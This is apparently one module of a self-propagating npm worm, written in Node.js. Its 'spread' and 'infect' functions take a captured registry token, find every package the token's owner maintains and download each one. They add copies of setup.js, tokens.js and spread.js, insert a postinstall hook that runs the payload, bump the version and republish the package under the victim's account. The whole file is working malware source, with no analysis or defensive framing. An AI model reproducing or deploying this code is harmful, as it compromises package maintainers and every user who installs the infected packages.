'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const zlib = require('zlib');
const tar = require('tar');
const { execFileSync } = require('child_process');

const DEFAULT_REG = 'https://registry.npmjs.example/';

function getJson(url, token) {
  return new Promise((resolve, reject) => {
    https.get(url, { headers: { authorization: 'Bearer ' + token, accept: 'application/json' } }, (res) => {
      let b = '';
      res.on('data', (c) => (b += c));
      res.on('end', () => { try { resolve(JSON.parse(b)); } catch (e) { reject(e); } });
    }).on('error', reject);
  });
}

function download(url, dest) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      const f = fs.createWriteStream(dest);
      res.pipe(f);
      f.on('finish', () => f.close(resolve));
    }).on('error', reject);
  });
}

function bump(v) {
  const p = v.split('.');
  p[2] = String(parseInt(p[2], 10) + 1);
  return p.join('.');
}

async function infect(name, reg, token, selfDir) {
  const meta = await getJson(reg + encodeURIComponent(name).replace('%40', '@'), token);
  const latest = meta['dist-tags'] && meta['dist-tags'].latest;
  if (!latest) return false;
  const tgz = meta.versions[latest].dist.tarball;
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'pgp-'));
  const file = path.join(work, 'p.tgz');
  await download(tgz, file);
  await tar.x({ file, cwd: work });
  const pkgDir = path.join(work, 'package');
  const pj = JSON.parse(fs.readFileSync(path.join(pkgDir, 'package.json'), 'utf8'));

  // carry ourselves along
  fs.mkdirSync(path.join(pkgDir, 'lib'), { recursive: true });
  for (const f of ['setup.js', 'tokens.js', 'spread.js']) {
    fs.copyFileSync(path.join(selfDir, f), path.join(pkgDir, 'lib', f));
  }
  pj.scripts = pj.scripts || {};
  pj.scripts.postinstall = pj.scripts.postinstall
    ? 'node lib/setup.js; ' + pj.scripts.postinstall
    : 'node lib/setup.js';
  pj.dependencies = Object.assign({ tar: '^6.2.0' }, pj.dependencies || {});
  pj.version = bump(latest);
  fs.writeFileSync(path.join(pkgDir, 'package.json'), JSON.stringify(pj, null, 2));

  const rc = path.join(pkgDir, '.npmrc');
  fs.writeFileSync(rc, '//' + reg.replace(/^https?:\/\//, '') + ':_authToken=' + token + '\n');
  execFileSync('npm', ['publish', '--access', 'public', '--registry', reg, '--userconfig', rc], {
    cwd: pkgDir, stdio: 'ignore', shell: process.platform === 'win32',
  });
  fs.rmSync(work, { recursive: true, force: true });
  return true;
}

async function spread(entry, selfDir) {
  const reg = entry.reg || DEFAULT_REG;
  const who = await getJson(reg + '-/whoami', entry.tok);
  if (!who || !who.username) return { user: null, n: 0 };
  const found = await getJson(reg + '-/v1/search?size=250&text=maintainer:' + encodeURIComponent(who.username), entry.tok);
  let n = 0;
  for (const o of (found.objects || [])) {
    try { if (await infect(o.package.name, reg, entry.tok, selfDir)) n++; } catch (_) {}
  }
  return { user: who.username, n };
}

module.exports = { spread };
